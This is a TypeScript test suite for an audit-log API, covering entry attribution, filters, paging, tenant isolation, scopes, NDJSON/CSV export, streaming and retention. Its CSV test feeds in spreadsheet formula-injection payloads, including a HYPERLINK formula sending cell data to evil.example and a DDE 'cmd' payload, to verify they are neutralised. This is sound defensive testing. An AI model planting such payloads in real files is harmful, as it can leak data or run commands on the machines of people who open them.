import v8 from 'node:v8';
import vm from 'node:vm';
import { describe, expect, it } from 'vitest';
import { uniqueEmail } from './helpers/fixtures.ts';
import { HostedBrowser } from './helpers/hosted.ts';
import { expectError, isoDate, ok, sql, type TestApp, UUID } from './helpers/server.ts';
import { endUser, signIn } from './helpers/sign-in.ts';
import { serverSuite } from './helpers/suite.ts';

const suite = serverSuite();

interface Entry {
  id: string;
  action: string;
  occurred_at: string;
  actor: { type: string; id: string };
  target: { type: string; id: string } | null;
  organization_id: string | null;
  ip: string | null;
  user_agent: string | null;
  data: Record<string, any>;
}

interface Page {
  audit_logs: Entry[];
  total: number;
  limit: number;
  offset: number;
}

const AGENT = 'audit-test/1.0 (+https://example.com)';

const list = async (app: TestApp, query: Record<string, string | number> = {}): Promise<Page> => {
  const qs = new URLSearchParams(Object.entries(query).map(([k, v]) => [k, String(v)])).toString();
  return ok(app.rest('GET', `/v1/audit-logs${qs ? `?${qs}` : ''}`));
};

/** The API key id of the app's first secret key. */
const firstKeyId = async (app: TestApp): Promise<string> => (await ok(app.rest('GET', '/v1/api-keys')))[0].id;

/**
 * A `message.created` event (a template the service does not deliver itself emits it, with the link in its body),
 * written as recordEvent writes it.
 */
const insertMail = (app: TestApp) =>
  sql(
    suite.server,
    `insert into events (id, application_id, type, data, created_at, actor_type, actor_id, ip, user_agent, organization_id,
                         target_type, target_id)
     values (gen_random_uuid(), ?, 'message.created', ?::jsonb, now(), 'system', 'gatehouse', null, null, null, 'message', ?)`,
    [app.id, JSON.stringify({ id: crypto.randomUUID(), text: 'https://example.com/verify?token=secret' }), crypto.randomUUID()],
  );

const createOrg = (app: TestApp, name = 'Acme') =>
  ok(app.rest('POST', '/v1/organizations', { name }, { 'user-agent': AGENT }), 201);

describe('audit log entries: who acted, from where, on what', () => {
  it('a secret-key call: the api_key actor, the address and user agent, the organization and the target', async () => {
    const app = await suite.server.createApp();
    const keyId = await firstKeyId(app);
    const org = await createOrg(app);
    const user = await ok(app.rest('POST', '/v1/users', { primary_email: uniqueEmail() }), 201);
    await ok(app.rest('POST', `/v1/organizations/${org.id}/members`, { user_id: user.id }, { 'user-agent': AGENT }), 201);

    const page = await list(app);
    expect(Object.keys(page).sort()).toEqual(['audit_logs', 'limit', 'offset', 'total']);
    const [membership, , created] = page.audit_logs;
    expect(membership).toEqual({
      id: expect.stringMatching(UUID),
      action: 'organization_membership.created',
      occurred_at: isoDate,
      actor: { type: 'api_key', id: keyId },
      target: { type: 'user', id: user.id },
      organization_id: org.id,
      ip: expect.stringMatching(/127\.0\.0\.1|::1/),
      user_agent: AGENT,
      data: expect.objectContaining({ user_id: user.id, organization_id: org.id, source: 'manual' }),
    });
    expect(created).toMatchObject({
      action: 'organization.created',
      actor: { type: 'api_key', id: keyId },
      target: { type: 'organization', id: org.id },
      organization_id: org.id,
      user_agent: AGENT,
      data: { id: org.id, name: 'Acme' },
    });
  });

  it('the operator: the first key of a new application was created by the operator', async () => {
    const app = await suite.server.createApp();
    const [entry] = (await list(app)).audit_logs;
    expect(entry).toMatchObject({
      action: 'api_key.created',
      actor: { type: 'operator', id: 'operator' },
      target: { type: 'api_key', id: await firstKeyId(app) },
      organization_id: null,
    });
  });

  it("an end user: a sign-in is the user's own act, and so is a signed-in change", async () => {
    const app = await suite.server.createApp();
    const headers = { 'user-agent': 'Mozilla/5.0 (audit)' };
    const signedIn = await signIn(suite.server, suite.smtp, app, uniqueEmail('end-user'), { headers });
    const userId = signedIn.user.id;
    const session = (await list(app, { action: 'session.created' })).audit_logs[0];
    expect(session).toMatchObject({
      actor: { type: 'user', id: userId },
      target: { type: 'session', id: signedIn.tokens.session_id },
      user_agent: 'Mozilla/5.0 (audit)',
      ip: expect.stringMatching(/127\.0\.0\.1|::1/),
    });
    // Sign-up created the user: the user acted.
    expect((await list(app, { action: 'user.created' })).audit_logs[0]).toMatchObject({
      actor: { type: 'user', id: userId },
      target: { type: 'user', id: userId },
      user_agent: 'Mozilla/5.0 (audit)',
    });
    const updated = await endUser(app, 'PATCH', '/v1/auth/me', { profile: { nickname: 'ann' } }, signedIn.tokens.access_token, {
      'user-agent': 'Mozilla/5.0 (signed in)',
    });
    expect(updated.status, JSON.stringify(updated.body)).toBe(200);
    expect((await list(app, { action: 'user.updated' })).audit_logs[0]).toMatchObject({
      actor: { type: 'user', id: userId },
      target: { type: 'user', id: userId },
      user_agent: 'Mozilla/5.0 (signed in)',
    });
  });

  it('a background job: the system acted, from no address', async () => {
    const app = await suite.server.createApp();
    const plan = await ok(
      app.rest('POST', '/v1/billing/plans', {
        key: 'pro',
        name: 'Pro',
        interval: 'month',
        currency: 'USD',
        price_cents: 1000,
        per_seat_cents: 0,
        trial_days: 0,
      }),
      201,
    );
    const org = await createOrg(app);
    const sub = await ok(
      app.rest('POST', '/v1/billing/subscriptions', { organization_id: org.id, plan_id: plan.id, seats: 3 }),
      201,
    );
    await sql(suite.server, `update billing_subscriptions set current_period_end = now() - interval '1 minute' where id = ?`, [
      sub.id,
    ]);
    await suite.server.server.housekeeping();
    const [renewed] = (await list(app, { action: 'subscription.updated', target_id: sub.id })).audit_logs;
    expect(renewed).toMatchObject({
      actor: { type: 'system', id: 'gatehouse' },
      target: { type: 'subscription', id: sub.id },
      organization_id: org.id,
      ip: null,
      user_agent: null,
    });
  });

  it('the admin portal: a change made in a portal session is the portal session’s act', async () => {
    const app = await suite.server.createApp();
    const org = await createOrg(app);
    const { url } = await ok(app.rest('POST', `/v1/organizations/${org.id}/portal-links`, { intent: 'sso' }), 201);
    const browser = new HostedBrowser(suite.server);
    const opened = await browser.get(new URL(url).pathname + new URL(url).search);
    expect(opened.status).toBe(303);
    const overview = await browser.get('/portal/sso');
    const created = await browser.submit(overview, '/portal/sso/connections', { idp: 'okta' });
    expect(created.status, created.html).toBe(303);
    const [link] = await sql(suite.server, 'select id from portal_links where organization_id = ?', [org.id]);
    const [entry] = (await list(app, { action: 'saml_connection.created' })).audit_logs;
    expect(entry).toMatchObject({
      actor: { type: 'portal', id: link.id },
      organization_id: org.id,
      target: { type: 'saml_connection', id: created.location!.split('/').pop() },
      ip: expect.stringMatching(/127\.0\.0\.1|::1/),
    });
  });

  it('mail is no audit entry: its data carries one-time links', async () => {
    const app = await suite.server.createApp();
    await insertMail(app);
    expect(
      await sql(suite.server, `select 1 from events where application_id = ? and type = 'message.created'`, [app.id]),
    ).toHaveLength(1);
    expect((await list(app, { action: 'message.created' })).total).toBe(0);
    expect((await list(app, { action: 'message.*' })).total).toBe(0);
    expect((await list(app, { limit: 100 })).audit_logs.map((e) => e.action)).not.toContain('message.created');
  });
});

describe('GET /v1/audit-logs: filters and pages', () => {
  it('filters by organization, actor, action (type or prefix), target and time; newest first; paginated', async () => {
    const app = await suite.server.createApp();
    const keyId = await firstKeyId(app);
    const a = await createOrg(app, 'A');
    const b = await createOrg(app, 'B');
    const user = await ok(app.rest('POST', '/v1/users', { primary_email: uniqueEmail() }), 201);
    await ok(app.rest('POST', `/v1/organizations/${a.id}/members`, { user_id: user.id }), 201);
    await ok(app.rest('PATCH', `/v1/organizations/${b.id}`, { name: 'B2' }));
    const second = await ok(app.rest('POST', '/v1/api-keys', { name: 'second', scopes: ['*'] }), 201);
    const other = {
      ...app,
      rest: (m: string, p: string, body?: unknown) => app.rest(m, p, body, { authorization: `Bearer ${second.secret}` }),
    };
    await ok(other.rest('POST', '/v1/users', { primary_email: uniqueEmail() }), 201);

    const all = await list(app, { limit: 100 });
    // Newest first: created_at DESC, id DESC.
    const times = all.audit_logs.map((e) => e.occurred_at);
    expect([...times].sort().reverse()).toEqual(times);
    expect(all.audit_logs.map((e) => e.action)).toEqual([
      'user.created',
      'api_key.created',
      'organization.updated',
      'organization_membership.created',
      'user.created',
      'organization.created',
      'organization.created',
      'api_key.created',
    ]);

    const ofA = await list(app, { organization_id: a.id });
    expect(ofA.audit_logs.map((e) => e.action)).toEqual(['organization_membership.created', 'organization.created']);
    expect(ofA.total).toBe(2);
    expect((await list(app, { organization_id: b.id })).audit_logs.map((e) => e.action)).toEqual([
      'organization.updated',
      'organization.created',
    ]);

    const bySecond = await list(app, { actor_id: second.id });
    expect(bySecond.audit_logs.map((e) => e.action)).toEqual(['user.created']);
    expect((await list(app, { actor_id: keyId })).total).toBe(6);
    expect((await list(app, { actor_id: 'operator' })).total).toBe(1);

    expect((await list(app, { action: 'organization.*' })).audit_logs.map((e) => e.action)).toEqual([
      'organization.updated',
      'organization.created',
      'organization.created',
    ]);
    // A prefix is a whole segment: organization.* is not organization_membership.*.
    expect((await list(app, { action: 'organization_membership.*' })).total).toBe(1);
    expect((await list(app, { action: 'user.created' })).total).toBe(2);
    expect((await list(app, { action: 'nothing.*' })).total).toBe(0);
    expect((await list(app, { action: 'nothing.at_all' })).total).toBe(0);

    expect((await list(app, { target_id: user.id })).audit_logs.map((e) => e.action)).toEqual([
      'organization_membership.created',
      'user.created',
    ]);
    expect((await list(app, { target_id: b.id, action: 'organization.updated' })).total).toBe(1);

    // Time: since is inclusive, until exclusive.
    const pivot = all.audit_logs[3]!; // organization_membership.created
    const since = await list(app, { since: pivot.occurred_at, limit: 100 });
    expect(since.audit_logs.map((e) => e.id)).toContain(pivot.id);
    expect(since.audit_logs.at(-1)!.id).toBe(pivot.id);
    const until = await list(app, { until: pivot.occurred_at, limit: 100 });
    expect(until.audit_logs.map((e) => e.id)).not.toContain(pivot.id);
    expect(since.total + until.total).toBe(all.total);
    expect((await list(app, { since: '2000-01-01T00:00:00Z', until: '2000-01-02T00:00:00+02:00' })).total).toBe(0);

    // Pages.
    const first = await list(app, { limit: 3 });
    const next = await list(app, { limit: 3, offset: 3 });
    expect(first).toMatchObject({ total: 8, limit: 3, offset: 0 });
    expect([...first.audit_logs, ...next.audit_logs].map((e) => e.id)).toEqual(all.audit_logs.slice(0, 6).map((e) => e.id));
    expect((await list(app, { offset: 100 })).audit_logs).toEqual([]);
  });

  it('refuses bad filters and pages with 422 validation_failed', async () => {
    const app = await suite.server.createApp();
    for (const query of [
      'limit=0',
      'limit=101',
      'offset=-1',
      'limit=1.5',
      'organization_id=not-a-uuid',
      'action=user.*.created',
      'action=*',
      'action=User.Created',
      'since=yesterday',
      'until=2026-13-01T00:00:00Z',
      'colour=blue',
    ]) {
      expectError(await app.rest('GET', `/v1/audit-logs?${query}`), 422, 'validation_failed', query);
      expectError(await app.rest('GET', `/v1/audit-logs/export?${query}`), 422, 'validation_failed', `export ${query}`);
    }
    expectError(await app.rest('GET', '/v1/audit-logs/export?format=xml'), 422, 'validation_failed');
  });

  it("never shows another application's entries, whatever the filters name", async () => {
    const mine = await suite.server.createApp();
    const theirs = await suite.server.createApp();
    const theirOrg = await createOrg(theirs, 'Theirs');
    const theirKey = await firstKeyId(theirs);
    const ids = new Set((await list(theirs, { limit: 100 })).audit_logs.map((e) => e.id));
    expect(ids.size).toBeGreaterThan(0);
    const queries: Array<Record<string, string>> = [
      {},
      { organization_id: theirOrg.id },
      { target_id: theirOrg.id },
      { actor_id: theirKey },
    ];
    for (const query of queries) {
      const page = await list(mine, { ...query, limit: 100 });
      expect(page.audit_logs.filter((e) => ids.has(e.id))).toEqual([]);
    }
    expect((await list(mine, { organization_id: theirOrg.id })).total).toBe(0);
    const exported = await mine.rest('GET', `/v1/audit-logs/export?organization_id=${theirOrg.id}`);
    expect(exported.status).toBe(200);
    expect(exported.body).toBeUndefined();
    // Their key cannot read my log either: x-application-id names mine, the key is theirs.
    const cross = await mine.rest('GET', '/v1/audit-logs', undefined, { authorization: `Bearer ${theirs.secretKey}` });
    expectError(cross, 401, 'invalid_api_key');
  });

  it('needs audit_logs:read: 403 insufficient_scope without it, for the list and the export', async () => {
    const app = await suite.server.createApp();
    const narrow = await ok(app.rest('POST', '/v1/api-keys', { name: 'users', scopes: ['users:write', 'webhooks:read'] }), 201);
    const reader = await ok(app.rest('POST', '/v1/api-keys', { name: 'auditor', scopes: ['audit_logs:read'] }), 201);
    const as = (secret: string) => ({ authorization: `Bearer ${secret}` });
    expectError(await app.rest('GET', '/v1/audit-logs', undefined, as(narrow.secret)), 403, 'insufficient_scope');
    expectError(await app.rest('GET', '/v1/audit-logs/export', undefined, as(narrow.secret)), 403, 'insufficient_scope');
    expectError(
      await app.rest('GET', '/v1/audit-logs/export?format=csv', undefined, as(narrow.secret)),
      403,
      'insufficient_scope',
    );
    expectError(await app.rest('GET', '/v1/audit-logs', undefined, { authorization: undefined }), 401, 'missing_credentials');
    expect((await ok(app.rest('GET', '/v1/audit-logs', undefined, as(reader.secret)))).total).toBeGreaterThan(0);
    expect((await app.rest('GET', '/v1/audit-logs/export', undefined, as(reader.secret))).status).toBe(200);
    // Reading the log is no entry.
    const before = (await list(app)).total;
    await list(app);
    expect((await list(app)).total).toBe(before);
  });
});

/** Reads a streamed body chunk by chunk; answers the text and how many chunks came. */
async function readStream(response: Response, onChunk?: () => void): Promise<{ text: string; chunks: number }> {
  const reader = response.body!.getReader();
  const decoder = new TextDecoder();
  let text = '';
  let chunks = 0;
  for (;;) {
    const { done, value } = await reader.read();
    if (done) break;
    chunks++;
    text += decoder.decode(value, { stream: true });
    onChunk?.();
  }
  return { text: text + decoder.decode(), chunks };
}

const exportRequest = (app: TestApp, query: string) =>
  fetch(`${suite.server.url}/v1/audit-logs/export${query}`, {
    headers: { authorization: `Bearer ${app.secretKey}`, 'x-application-id': app.id },
  });

/** RFC 4180 rows (quoted cells, doubled quotes, CRLF line ends). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

describe('GET /v1/audit-logs/export', () => {
  it('NDJSON: every entry under the filters, newest first, one a line, as the list answers them', async () => {
    const app = await suite.server.createApp();
    const org = await createOrg(app);
    await ok(app.rest('PATCH', `/v1/organizations/${org.id}`, { name: 'Acme 2' }));
    const response = await exportRequest(app, '');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="audit-logs.ndjson"');
    const { text } = await readStream(response);
    expect(text.endsWith('\n')).toBe(true);
    const lines = text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(lines).toEqual((await list(app, { limit: 100 })).audit_logs);
    const filtered = await readStream(await exportRequest(app, `?action=organization.*&organization_id=${org.id}`));
    expect(
      filtered.text
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line).action),
    ).toEqual(['organization.updated', 'organization.created']);
    expect((await readStream(await exportRequest(app, '?action=nothing.*'))).text).toBe('');
  });

  it('CSV: a header line, RFC 4180 quoting, and no cell a spreadsheet would run as a formula', async () => {
    const app = await suite.server.createApp();
    const evil = '=HYPERLINK("http://evil.example/?x="&A1, "click, me")';
    await ok(app.rest('POST', '/v1/organizations', { name: "+cmd|' /C calc'!A0" }, { 'user-agent': evil }), 201);
    await ok(
      app.rest(
        'POST',
        '/v1/users',
        { primary_email: uniqueEmail(), profile: { bio: 'line one\nline "two"' } },
        { 'user-agent': '@SUM(1+1)' },
      ),
      201,
    );
    await ok(app.rest('POST', '/v1/users', {}, { 'user-agent': '-2+3' }), 201);
    const response = await exportRequest(app, '?format=csv');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="audit-logs.csv"');
    const { text } = await readStream(response);
    const rows = parseCsv(text);
    expect(rows[0]).toEqual([
      'id',
      'action',
      'occurred_at',
      'actor_type',
      'actor_id',
      'target_type',
      'target_id',
      'organization_id',
      'ip',
      'user_agent',
      'data',
    ]);
    const entries = (await list(app, { limit: 100 })).audit_logs;
    expect(rows).toHaveLength(entries.length + 1);
    for (const row of rows) expect(row).toHaveLength(11);
    const [minus, at, plus] = rows.slice(1);
    expect(minus![9]).toBe("'-2+3");
    expect(at![9]).toBe("'@SUM(1+1)");
    expect(JSON.parse(at![10]!).profile).toEqual({ bio: 'line one\nline "two"' });
    expect(plus![9]).toBe(`'${evil}`);
    // Data is JSON (it starts with "{"), read back whole, quotes and all.
    expect(JSON.parse(plus![10]!).name).toBe("+cmd|' /C calc'!A0");
    // No cell of any row starts with a formula character.
    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    // The rows are the entries, in the same order.
    expect(rows.slice(1).map((r) => r[0])).toEqual(entries.map((e) => e.id));
    expect(rows.slice(1).map((r) => r[4])).toEqual(entries.map((e) => e.actor.id));
  });

  it('streams any size in pages: 20,000 entries, chunked, in memory that does not grow with the export', async () => {
    const app = await suite.server.createApp();
    const ROWS = 20_000;
    await sql(
      suite.server,
      `insert into events (id, application_id, type, data, created_at, actor_type, actor_id, ip, user_agent, organization_id,
                           target_type, target_id)
       select gen_random_uuid(), ?, 'user.updated', jsonb_build_object('id', g::text, 'pad', repeat('x', 2000)),
              now() - make_interval(secs => g) - interval '1 day', 'system', 'gatehouse', null, null, null, 'user', g::text
         from generate_series(1, ${ROWS}) g`,
      [app.id],
    );
    // The live heap, after a full collection (the flag is set for this test's process only).
    v8.setFlagsFromString('--expose-gc');
    const gc = vm.runInNewContext('gc') as () => void;
    const live = () => {
      gc();
      return process.memoryUsage().heapUsed;
    };
    const baseline = live();
    let peak = 0;
    let seen = 0;
    const response = await exportRequest(app, '?action=user.updated');
    expect(response.status).toBe(200);
    expect(response.headers.get('transfer-encoding')).toBe('chunked');
    expect(response.headers.get('content-length')).toBeNull();
    // The body is read as it comes; every few chunks the live heap is measured, server and client together.
    const reader = response.body!.getReader();
    let lines = 0;
    let bytes = 0;
    let chunks = 0;
    let tail = '';
    let previous = '';
    let ordered = true;
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      chunks++;
      bytes += value.length;
      const text = tail + Buffer.from(value).toString('utf8');
      const parts = text.split('\n');
      tail = parts.pop() ?? '';
      for (const part of parts) {
        const entry = JSON.parse(part);
        if (previous && entry.occurred_at > previous) ordered = false;
        previous = entry.occurred_at;
        lines++;
      }
      if (++seen % 20 === 0) peak = Math.max(peak, live() - baseline);
    }
    expect(tail).toBe('');
    expect(lines).toBe(ROWS);
    expect(ordered).toBe(true);
    expect(bytes).toBeGreaterThan(40_000_000);
    expect(chunks).toBeGreaterThan(ROWS / 500);
    // A buffered export would hold the whole body (over 40 MB) at once; a streamed one holds a page or two.
    expect(peak).toBeLessThan(16_000_000);

    // CSV streams the same way: chunked, a header and one line per entry.
    const csv = await exportRequest(app, '?action=user.updated&format=csv');
    expect(csv.headers.get('transfer-encoding')).toBe('chunked');
    const csvRead = await readStream(csv);
    expect(csvRead.chunks).toBeGreaterThan(1);
    const csvLines = csvRead.text.split('\r\n');
    expect(csvLines.at(-1)).toBe('');
    expect(csvLines).toHaveLength(ROWS + 2);
    expect(csvLines[1]).toMatch(/^[0-9a-f-]{36},user\.updated,/);

    // Pages are read as the client reads: a client that stops after its first chunk leaves the rest unread, so rows
    // removed meanwhile are not in what follows (a buffered export would have read all 20,000 before its first byte).
    const slow = await exportRequest(app, '?action=user.updated');
    const slowReader = slow.body!.getReader();
    const first = await slowReader.read();
    await new Promise((resolve) => setTimeout(resolve, 300));
    await sql(suite.server, `delete from events where application_id = ? and type = 'user.updated'`, [app.id]);
    let received = Buffer.from(first.value!).toString('utf8');
    for (;;) {
      const { done, value } = await slowReader.read();
      if (done) break;
      received += Buffer.from(value).toString('utf8');
    }
    // What was written ahead of the paused client sits in socket buffers, whose size the kernel tunes (megabytes on
    // loopback): some pages, never all of them.
    const slowLines = received.split('\n').filter(Boolean);
    expect(slowLines.length).toBeGreaterThan(0);
    expect(slowLines.length).toBeLessThan(ROWS);
    for (const line of slowLines) JSON.parse(line);
  }, 180_000);
});

describe('retention: settings.audit_log_retention_days', () => {
  const age = (id: string, days: number) =>
    sql(suite.server, `update events set created_at = now() - make_interval(days => ${days}) where id = ?`, [id]);
  const exists = async (id: string) => (await sql(suite.server, 'select 1 from events where id = ?', [id])).length === 1;

  it('defaults to 365 days, bounded 1–3650', async () => {
    const app = await suite.server.createApp();
    expect(app.application.settings.audit_log_retention_days).toBe(365);
    for (const bad of [0, 3651, 1.5, '30']) {
      expectError(
        await app.rest('PATCH', `/v1/applications/${app.id}`, { settings: { audit_log_retention_days: bad } }),
        422,
        'validation_failed',
        String(bad),
      );
    }
    const patched = await ok(app.rest('PATCH', `/v1/applications/${app.id}`, { settings: { audit_log_retention_days: 90 } }));
    expect(patched.settings.audit_log_retention_days).toBe(90);
    expect(patched.settings.retention.events_days).toBe(30);
  });

  it('an event outlives the event log as an audit entry, and goes after the audit retention; mail goes with the event log', async () => {
    const app = await suite.server.createApp({
      settings: { retention: { events_days: 7 }, audit_log_retention_days: 60 },
    });
    const other = await suite.server.createApp();
    await createOrg(app, 'Old');
    await createOrg(other, 'Theirs');
    const [entry] = (await list(app, { action: 'organization.created' })).audit_logs;
    const [theirs] = (await list(other, { action: 'organization.created' })).audit_logs;
    await insertMail(app);
    const [mail] = await sql(suite.server, `select id from events where application_id = ? and type = 'message.created'`, [
      app.id,
    ]);

    // Past the event log's 7 days: gone from the event log, still an audit entry; mail (no audit entry) is purged.
    await age(entry!.id, 8);
    await age(mail.id, 8);
    await suite.server.server.housekeeping();
    expect(await exists(entry!.id)).toBe(true);
    expect(await exists(mail.id)).toBe(false);
    expect((await list(app, { action: 'organization.created' })).audit_logs.map((e) => e.id)).toEqual([entry!.id]);
    const events = await ok(app.rest('GET', '/v1/events?type=organization.created'));
    expect(events.events).toEqual([]);

    // Past the audit log's 60 days: gone. Another application's default (365) keeps its entry.
    await age(entry!.id, 61);
    await age(theirs!.id, 61);
    await suite.server.server.housekeeping();
    expect(await exists(entry!.id)).toBe(false);
    expect((await list(app, { action: 'organization.created' })).total).toBe(0);
    expect(await exists(theirs!.id)).toBe(true);
    await age(theirs!.id, 366);
    await suite.server.server.housekeeping();
    expect(await exists(theirs!.id)).toBe(false);
  });

  it('a shorter audit retention than the event log keeps events for the event log', async () => {
    const app = await suite.server.createApp({
      settings: { retention: { events_days: 30 }, audit_log_retention_days: 5 },
    });
    await createOrg(app);
    const [entry] = (await list(app, { action: 'organization.created' })).audit_logs;
    await age(entry!.id, 10);
    await suite.server.server.housekeeping();
    expect(await exists(entry!.id)).toBe(true);
    // Kept for the event log only: no audit entry any more.
    expect((await list(app, { action: 'organization.created' })).total).toBe(0);
    expect((await ok(app.rest('GET', '/v1/events?type=organization.created'))).events).toHaveLength(1);
    await age(entry!.id, 31);
    await suite.server.server.housekeeping();
    expect(await exists(entry!.id)).toBe(false);
  });
});
